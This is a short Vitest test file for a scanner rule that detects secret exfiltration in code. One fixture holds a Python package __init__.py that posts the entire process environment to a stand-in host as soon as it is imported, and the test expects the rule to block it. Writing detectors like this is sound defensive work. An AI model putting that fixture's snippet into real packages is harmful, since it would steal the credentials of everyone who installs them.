import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './secret-exfiltration.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('blocks the environment that is sent on import', async () => {
  expect(
    await find({
      'demo/__init__.py': "import os, requests\nrequests.post('https://example.org/c', json=dict(os.environ))\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 2, true]])
})

it('leaves a client with its own token', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import os, requests\ndef items():\n    return requests.get('https://api.example.org', headers={'A': os.environ['EXAMPLE_TOKEN']})\n",
    }),
  ).toEqual([])
})
